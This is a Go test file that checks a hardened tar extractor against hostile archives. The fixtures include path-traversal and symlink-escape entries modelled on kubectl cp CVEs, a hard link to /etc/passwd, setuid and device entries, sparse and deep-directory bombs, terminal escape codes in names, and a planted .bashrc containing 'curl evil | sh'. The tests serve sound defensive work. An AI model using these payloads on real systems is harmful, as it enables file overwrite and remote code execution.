package api

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// entry is one entry of a hostile tar stream.
type entry struct {
	name     string
	typ      byte
	body     string
	mode     int64
	linkname string
}

func tarOf(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Mode: e.mode, Size: int64(len(e.body)), Linkname: e.linkname}
		if e.typ == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, e.body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// listing is every path under dir, with what it is, as "name kind".
func listing(t testing.TB, dir string) []string {
	t.Helper()
	var got []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		got = append(got, rel+" "+d.Type().String())
		return nil
	})
	return got
}

// TestExtractTarNeverMerges: by default the directory must not exist, and
// a refused or broken stream leaves nothing behind, not even its
// temporary directory.
func TestExtractTarNeverMerges(t *testing.T) {
	parent := t.TempDir()
	dir := filepath.Join(parent, "home")
	os.Mkdir(dir, 0o755)
	os.WriteFile(filepath.Join(dir, ".bashrc"), []byte("mine"), 0o644)
	hostile := tarOf(t, entry{name: ".bashrc", body: "curl evil | sh"}, entry{name: ".git/hooks/post-checkout", body: "#!/bin/sh\nevil", mode: 0o755})
	if err := ExtractTar(bytes.NewReader(hostile), dir, ExtractOptions{}); !errors.Is(err, ErrDestinationExists) {
		t.Fatalf("extract into an existing directory: %v, want ErrDestinationExists", err)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, ".bashrc")); string(got) != "mine" {
		t.Errorf(".bashrc is now %q", got)
	}
	if _, err := os.Stat(filepath.Join(dir, ".git")); err == nil {
		t.Error("the stream made .git in an existing directory")
	}

	// A stream that breaks after a good entry leaves no directory.
	fresh := filepath.Join(parent, "fresh")
	broken := tarOf(t, entry{name: "a", body: "a"}, entry{name: "../escape", body: "x"})
	if err := ExtractTar(bytes.NewReader(broken), fresh, ExtractOptions{}); !errors.Is(err, ErrUnsafeEntry) {
		t.Fatalf("broken stream: %v", err)
	}
	if got := listing(t, parent); len(got) != 2 {
		t.Errorf("after a refused stream the parent holds %q, want home and its .bashrc only", got)
	}

	// A file the stream names twice is not written twice.
	twice := tarOf(t, entry{name: "a", body: "first"}, entry{name: "./a", body: "second"})
	if err := ExtractTar(bytes.NewReader(twice), fresh, ExtractOptions{}); !errors.Is(err, ErrDestinationExists) {
		t.Errorf("an entry named twice: %v, want ErrDestinationExists", err)
	}

	if err := ExtractTar(bytes.NewReader(tarOf(t, entry{name: "d/", typ: tar.TypeDir, mode: 0o755}, entry{name: "d/f", body: "ok"})), fresh, ExtractOptions{}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(fresh, "d", "f")); string(got) != "ok" {
		t.Errorf("d/f holds %q", got)
	}
}

// TestExtractTarOverwrite: with Overwrite, files are replaced by a rename,
// never written through a link or into a hard-linked file.
func TestExtractTarOverwrite(t *testing.T) {
	outside := t.TempDir()
	secret := filepath.Join(outside, "secret")
	os.WriteFile(secret, []byte("secret"), 0o644)
	dir := t.TempDir()
	os.Symlink(secret, filepath.Join(dir, "link"))
	os.Link(secret, filepath.Join(dir, "hard"))
	os.Symlink(outside, filepath.Join(dir, "dirlink"))
	os.WriteFile(filepath.Join(dir, "keep"), []byte("keep"), 0o644)

	err := ExtractTar(bytes.NewReader(tarOf(t, entry{name: "link", body: "new"}, entry{name: "hard", body: "new"})), dir, ExtractOptions{Overwrite: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(secret); string(got) != "secret" {
		t.Errorf("the file outside now holds %q", got)
	}
	for _, name := range []string{"link", "hard"} {
		fi, err := os.Lstat(filepath.Join(dir, name))
		if err != nil || !fi.Mode().IsRegular() {
			t.Errorf("%s is %v (%v), want a regular file", name, fi.Mode(), err)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "keep")); string(got) != "keep" {
		t.Errorf("a file the stream does not name changed: %q", got)
	}
	// Through a directory link that was there before: refused, nothing
	// written outside.
	err = ExtractTar(bytes.NewReader(tarOf(t, entry{name: "dirlink/planted", body: "x"})), dir, ExtractOptions{Overwrite: true})
	if err == nil {
		t.Error("a file through a link to a directory outside was written")
	}
	if _, err := os.Stat(filepath.Join(outside, "planted")); err == nil {
		t.Error("a file was planted outside through a link")
	}
	if got := listing(t, dir); len(got) != 4 {
		t.Errorf("temporary files left behind: %q", got)
	}
}

// TestExtractTarCVEs: the kubectl cp CVEs' streams (CVE-2019-1002101,
// CVE-2019-11246, CVE-2019-11249, CVE-2019-11251) write nothing outside
// the directory, and no link, device or setuid file inside it.
func TestExtractTarCVEs(t *testing.T) {
	for _, tc := range []struct {
		name    string
		entries []entry
		refused bool
		want    []string
	}{
		{"dot dot", []entry{{name: "../../escape", body: "x"}}, true, nil},
		{"dot dot inside", []entry{{name: "a/../../escape", body: "x"}}, true, nil},
		{"absolute", []entry{{name: "/tmp/escape", body: "x"}}, true, nil},
		{"symlink then through it", []entry{{name: "l", typ: tar.TypeSymlink, linkname: "/"}, {name: "l/tmp/escape", body: "x"}}, false, []string{"l d---------", "l/tmp d---------", "l/tmp/escape ----------"}},
		{"relative symlink out", []entry{{name: "l", typ: tar.TypeSymlink, linkname: "../.."}, {name: "l", body: "x"}}, false, []string{"l ----------"}},
		{"hard link", []entry{{name: "h", typ: tar.TypeLink, linkname: "/etc/passwd"}}, false, nil},
		{"char device", []entry{{name: "null", typ: tar.TypeChar}}, false, nil},
		{"fifo", []entry{{name: "p", typ: tar.TypeFifo}}, false, nil},
		{"setuid", []entry{{name: "suid", body: "#!/bin/sh", mode: 0o4755}, {name: "sgid", body: "x", mode: 0o2755}, {name: "sticky/", typ: tar.TypeDir, mode: 0o1777}}, false,
			[]string{"sgid ----------", "sticky d---------", "suid ----------"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parent := t.TempDir()
			dir := filepath.Join(parent, "x")
			err := ExtractTar(bytes.NewReader(tarOf(t, tc.entries...)), dir, ExtractOptions{})
			if tc.refused != (err != nil) {
				t.Fatalf("err %v, want refused %v", err, tc.refused)
			}
			if tc.refused && !errors.Is(err, ErrUnsafeEntry) {
				t.Errorf("err %v, want ErrUnsafeEntry", err)
			}
			var top []string
			if !tc.refused {
				top = []string{"x d---------"}
			}
			if got := listing(t, parent); len(got) != len(top)+len(tc.want) {
				t.Errorf("the parent holds %q, want %q under x", got, tc.want)
			}
			for _, w := range tc.want {
				name, kind, _ := strings.Cut(w, " ")
				fi, err := os.Lstat(filepath.Join(dir, name))
				if err != nil || fi.Mode().Type().String() != kind {
					t.Errorf("%s: %v %v, want %s", name, fi, err, kind)
					continue
				}
				if fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0 {
					t.Errorf("%s keeps %v", name, fi.Mode())
				}
			}
		})
	}
}

// TestExtractTarUmask: files and directories get the stream's bits less
// the umask.
func TestExtractTarUmask(t *testing.T) {
	old := syscall.Umask(0o027)
	defer syscall.Umask(old)
	dir := filepath.Join(t.TempDir(), "x")
	err := ExtractTar(bytes.NewReader(tarOf(t, entry{name: "f", body: "x", mode: 0o777}, entry{name: "d/", typ: tar.TypeDir, mode: 0o777}, entry{name: "ro", body: "x", mode: 0o400})), dir, ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]fs.FileMode{".": 0o750, "f": 0o750, "d": 0o750, "ro": 0o400} {
		fi, err := os.Stat(filepath.Join(dir, name))
		if err != nil || fi.Mode().Perm() != want {
			t.Errorf("%s: %v %v, want %v", name, fi.Mode().Perm(), err, want)
		}
	}
	if err := SaveFile(strings.NewReader("x"), filepath.Join(dir, "saved"), 1<<20); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(filepath.Join(dir, "saved")); fi.Mode().Perm() != 0o640 {
		t.Errorf("a saved file has %v, want 0640", fi.Mode().Perm())
	}
}

// TestExtractTarLimits: bytes are counted as written and entries as read,
// whatever the stream declares; past either cap nothing is left.
func TestExtractTarLimits(t *testing.T) {
	big := strings.Repeat("x", 3000)
	for _, tc := range []struct {
		name    string
		stream  []byte
		o       ExtractOptions
		refused bool
	}{
		{"bytes within", tarOf(t, entry{name: "a", body: big}, entry{name: "b", body: big}), ExtractOptions{MaxBytes: 6000}, false},
		{"bytes over", tarOf(t, entry{name: "a", body: big}, entry{name: "b", body: big}), ExtractOptions{MaxBytes: 5999}, true},
		{"entries within", tarOf(t, entry{name: "a"}, entry{name: "b"}, entry{name: "c/", typ: tar.TypeDir}), ExtractOptions{MaxEntries: 3}, false},
		{"entries over", tarOf(t, entry{name: "a"}, entry{name: "b"}, entry{name: "c", typ: tar.TypeSymlink, linkname: "a"}), ExtractOptions{MaxEntries: 2}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parent := t.TempDir()
			err := ExtractTar(bytes.NewReader(tc.stream), filepath.Join(parent, "x"), tc.o)
			if tc.refused != errors.Is(err, ErrExtractLimit) || !tc.refused && err != nil {
				t.Fatalf("err %v, want refused %v", err, tc.refused)
			}
			if got := listing(t, parent); tc.refused && len(got) != 0 {
				t.Errorf("a refused stream left %q", got)
			}
		})
	}
}

// TestExtractTarSparse: a sparse file, whose few bytes of stream declare a
// file of any size, is refused, of GNU's old kind and of PAX's. GNU tar
// writes both from a file with a hole.
func TestExtractTarSparse(t *testing.T) {
	src := t.TempDir()
	hole := filepath.Join(src, "hole")
	f, err := os.Create(hole)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteAt([]byte("end"), 64<<20)
	f.Close()
	for _, format := range []string{"gnu", "pax"} {
		t.Run(format, func(t *testing.T) {
			out, err := exec.Command("tar", "--sparse", "--format="+format, "-c", "-f", "-", "-C", src, "hole").Output()
			if err != nil {
				t.Fatalf("GNU tar: %v", err)
			}
			if len(out) > 1<<20 {
				t.Fatalf("tar wrote %d bytes: not sparse", len(out))
			}
			parent := t.TempDir()
			if err := ExtractTar(bytes.NewReader(out), filepath.Join(parent, "x"), ExtractOptions{}); !errors.Is(err, ErrUnsafeEntry) {
				t.Errorf("sparse %s entry: %v, want ErrUnsafeEntry", format, err)
			}
			if got := listing(t, parent); len(got) != 0 {
				t.Errorf("a refused stream left %q", got)
			}
		})
	}
}

// TestSaveFileLongName: a file whose name is as long as a name may be
// (255 bytes) is saved, and a cut transfer leaves the old file whole.
func TestSaveFileLongName(t *testing.T) {
	p := filepath.Join(t.TempDir(), strings.Repeat("n", 255))
	if err := SaveFile(strings.NewReader("old"), p, 1<<20); err != nil {
		t.Fatal(err)
	}
	if err := SaveFile(io.MultiReader(strings.NewReader("new"), iotestErr{}), p, 1<<20); err == nil {
		t.Error("a cut transfer saved")
	}
	if got, _ := os.ReadFile(p); string(got) != "old" {
		t.Errorf("after a cut transfer the file holds %q", got)
	}
	if err := SaveFile(strings.NewReader("four"), p, 3); !errors.Is(err, ErrExtractLimit) {
		t.Errorf("four bytes with a cap of three: %v, want ErrExtractLimit", err)
	}
	if got, _ := os.ReadFile(p); string(got) != "old" {
		t.Errorf("after a refused transfer the file holds %q", got)
	}
	if got := listing(t, filepath.Dir(p)); len(got) != 1 {
		t.Errorf("left behind: %q", got)
	}
}

type iotestErr struct{}

func (iotestErr) Read([]byte) (int, error) { return 0, errors.New("cut") }

// TestWriteTarOwnsNothing: an uploaded tar carries uid and gid 0, no user
// or group names, and no setuid bits.
func TestWriteTarOwnsNothing(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "f"), []byte("x"), 0o644)
	os.Mkdir(filepath.Join(dir, "d"), 0o755)
	os.Symlink("f", filepath.Join(dir, "d", "l"))
	os.Chmod(filepath.Join(dir, "f"), 0o4755)
	var b bytes.Buffer
	if err := writeTar(&b, os.DirFS(dir)); err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(&b)
	var names []string
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		names = append(names, h.Name)
		if h.Uid != 0 || h.Gid != 0 || h.Uname != "" || h.Gname != "" || h.Mode&^0o777 != 0 {
			t.Errorf("%s: uid %d gid %d uname %q gname %q mode %o", h.Name, h.Uid, h.Gid, h.Uname, h.Gname, h.Mode)
		}
	}
	if strings.Join(names, " ") != "d/ d/l f" {
		t.Errorf("entries %q", names)
	}
}

// FuzzExtractTar: whatever the stream, nothing lands outside the
// directory, no link, device or setuid file is made, and no more bytes
// or paths are written than allowed.
func FuzzExtractTar(f *testing.F) {
	f.Add(tarOf(f, entry{name: "a", body: "x"}, entry{name: "d/", typ: tar.TypeDir}, entry{name: "d/b", body: "yy", mode: 0o4777}))
	f.Add(tarOf(f, entry{name: "l", typ: tar.TypeSymlink, linkname: "/"}, entry{name: "l/x", body: "x"}))
	f.Add(tarOf(f, entry{name: "../x", body: "x"}))
	const max = 1 << 16
	f.Fuzz(func(t *testing.T, stream []byte) {
		parent := t.TempDir()
		dir := filepath.Join(parent, "x")
		err := ExtractTar(bytes.NewReader(stream), dir, ExtractOptions{MaxBytes: max, MaxEntries: 64})
		var total int64
		paths := 0
		filepath.WalkDir(parent, func(p string, d fs.DirEntry, werr error) error {
			if werr != nil || p == parent {
				return werr
			}
			if p != dir {
				paths++
			}
			if rel, _ := filepath.Rel(dir, p); !filepath.IsLocal(rel) {
				t.Errorf("%s is outside %s (err %v)", p, dir, err)
			}
			fi, _ := d.Info()
			if !fi.Mode().IsRegular() && !fi.IsDir() || fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0 {
				t.Errorf("%s is %v", p, fi.Mode())
			}
			if fi.Mode().IsRegular() {
				total += fi.Size()
			}
			return nil
		})
		if total > max {
			t.Errorf("%d bytes written, more than %d", total, max)
		}
		if paths > 64 {
			t.Errorf("%d paths written from at most 64 entries", paths)
		}
		if err != nil {
			if got := listing(t, parent); len(got) != 0 {
				t.Errorf("a refused stream (%v) left %q", err, got)
			}
		}
	})
}

// TestExtractTarDeepNames: a deep name makes no more directories than as
// many entries would, and a name longer than a path may be is refused, so
// that a few bytes of stream never make millions of directories; what was
// made before the refusal is gone.
func TestExtractTarDeepNames(t *testing.T) {
	deep := strings.Repeat("a/", 1000) + "f"
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: strings.Repeat("b/", MaxPathBytes/2) + "f", Typeflag: tar.TypeReg, Mode: 0o644})
	tw.Close()
	tooLong := b.Bytes()
	for _, tc := range []struct {
		name   string
		stream []byte
		o      ExtractOptions
		want   error
	}{
		{"deep within", tarOf(t, entry{name: "a/b/c/f"}), ExtractOptions{MaxEntries: 4}, nil},
		{"deep over", tarOf(t, entry{name: "a/b/c/f"}), ExtractOptions{MaxEntries: 3}, ErrExtractLimit},
		{"directory entries counted once", tarOf(t, entry{name: "a/b/", typ: tar.TypeDir}, entry{name: "a/b/f"}, entry{name: "a/g"}), ExtractOptions{MaxEntries: 4}, nil},
		{"deepest", tarOf(t, entry{name: strings.Repeat("a/", MaxTarDepth) + "f"}), ExtractOptions{}, nil},
		{"deeper", tarOf(t, entry{name: strings.Repeat("a/", MaxTarDepth+1) + "f"}), ExtractOptions{}, ErrUnsafeEntry},
		{"deep within the depth, over the entries", tarOf(t, entry{name: strings.Repeat("a/", 100) + "f"}), ExtractOptions{MaxEntries: 100}, ErrExtractLimit},
		{"a thousand levels", tarOf(t, entry{name: deep}), ExtractOptions{}, ErrUnsafeEntry},
		{"a thousand levels, then refused", tarOf(t, entry{name: deep}, entry{name: "../x"}), ExtractOptions{}, ErrUnsafeEntry},
		{"longer than a path", tooLong, ExtractOptions{}, ErrUnsafeEntry},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parent := t.TempDir()
			err := ExtractTar(bytes.NewReader(tc.stream), filepath.Join(parent, "x"), tc.o)
			if tc.want == nil && err != nil || !errors.Is(err, tc.want) {
				t.Fatalf("err %v, want %v", err, tc.want)
			}
			if got := listing(t, parent); tc.want != nil && len(got) != 0 {
				t.Errorf("a refused stream left %d paths", len(got))
			}
		})
	}
}

// TestExtractTarOverwriteFresh: with Overwrite, a directory that did not
// exist is made whole or not at all, as without it.
func TestExtractTarOverwriteFresh(t *testing.T) {
	parent := t.TempDir()
	dir := filepath.Join(parent, "new")
	broken := tarOf(t, entry{name: "a", body: "a"}, entry{name: "../x", body: "x"})
	if err := ExtractTar(bytes.NewReader(broken), dir, ExtractOptions{Overwrite: true}); !errors.Is(err, ErrUnsafeEntry) {
		t.Fatalf("broken stream: %v", err)
	}
	if got := listing(t, parent); len(got) != 0 {
		t.Errorf("a refused stream left %q", got)
	}
	dir = filepath.Join(parent, "missing", "new")
	if err := ExtractTar(bytes.NewReader(tarOf(t, entry{name: "a", body: "a"})), dir, ExtractOptions{Overwrite: true}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "a")); string(got) != "a" {
		t.Errorf("a holds %q", got)
	}
}

// TestSaveFileNames: a path that names a directory (a trailing separator,
// . or ..) is refused and writes nothing; a link at the path is replaced,
// never written through.
func TestSaveFileNames(t *testing.T) {
	parent := t.TempDir()
	outside := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(outside, []byte("secret"), 0o644)
	dir := filepath.Join(parent, "d")
	os.Mkdir(dir, 0o755)
	os.Symlink(outside, filepath.Join(dir, "link"))
	for _, p := range []string{dir + "/", dir + "/.", dir + "/..", ""} {
		if err := SaveFile(strings.NewReader("new"), p, 1<<20); err == nil {
			t.Errorf("SaveFile(%q) saved", p)
		}
	}
	if err := SaveFile(strings.NewReader("new"), filepath.Join(dir, "link"), 1<<20); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(outside); string(got) != "secret" {
		t.Errorf("written through a link: %q", got)
	}
	want := []string{"d d---------", "d/link ----------"}
	if got := listing(t, parent); strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("the directory holds %q, want %q", got, want)
	}
}

// TestExtractTarErrorsPrintable: an error that quotes an entry's name
// carries no control characters, whichever part of the extraction failed,
// and still matches its sentinel.
func TestExtractTarErrorsPrintable(t *testing.T) {
	esc := "e\x1b]0;owned\a\u009b2J"
	for _, tc := range []struct {
		name   string
		stream []byte
		o      ExtractOptions
	}{
		{"named twice", tarOf(t, entry{name: esc, body: "x"}, entry{name: esc, body: "x"}), ExtractOptions{}},
		{"name too long", tarOf(t, entry{name: strings.Repeat("\x1b", 300), body: "x"}), ExtractOptions{}},
		{"name too long, overwrite", tarOf(t, entry{name: strings.Repeat("\x1b", 300), body: "x"}), ExtractOptions{Overwrite: true}},
		{"file then directory", tarOf(t, entry{name: esc, body: "x"}, entry{name: esc + "/", typ: tar.TypeDir}), ExtractOptions{Overwrite: true}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := ExtractTar(bytes.NewReader(tc.stream), filepath.Join(t.TempDir(), "x"), tc.o)
			if err == nil {
				t.Fatal("extracted")
			}
			if msg := err.Error(); msg != Printable(msg) {
				t.Errorf("error %q", msg)
			}
		})
	}
	err := ExtractTar(bytes.NewReader(tarOf(t, entry{name: esc, body: "x"}, entry{name: esc, body: "x"})), filepath.Join(t.TempDir(), "x"), ExtractOptions{})
	if !errors.Is(err, ErrDestinationExists) {
		t.Errorf("err %v, want ErrDestinationExists", err)
	}
}
